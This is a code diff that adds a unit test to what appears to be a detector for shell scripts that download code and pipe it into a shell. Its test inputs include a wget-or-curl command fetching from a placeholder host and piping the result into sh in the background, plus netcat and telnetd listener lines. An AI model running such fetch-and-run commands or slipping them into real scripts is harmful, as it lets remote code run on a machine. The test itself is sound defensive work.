@@ -46,6 +46,14 @@ def test_fetch_and_run_spellings(script):
     assert [h.kind for h in fetch_and_run(parse(script))] == ["fetch-and-run"]
 
 
+def test_a_subshell_group_piped_into_a_shell_feeds_it_every_download():
+    s = parse("(wget -q -O - http://x.example/m || curl -s http://x.example/m) | sh &\n")
+    assert [h.kind for h in fetch_and_run(s)] == ["fetch-and-run", "fetch-and-run"]
+    # the same group piped into a logger, or a group whose output is not piped, runs nothing
+    assert fetch_and_run(parse("(wget -q -O - http://x.example/m || curl -s http://x.example/m) | logger\n")) == []
+    assert fetch_and_run(parse("(wget -q -O - http://x.example/m > /tmp/m); sh /etc/init.d/net\n")) == []
+
+
 @pytest.mark.parametrize("script", [
     "telnetd -p 23\n",  # login required
     "nc -l -p 7600 > /tmp/upload.bin\n",  # a listener that runs nothing
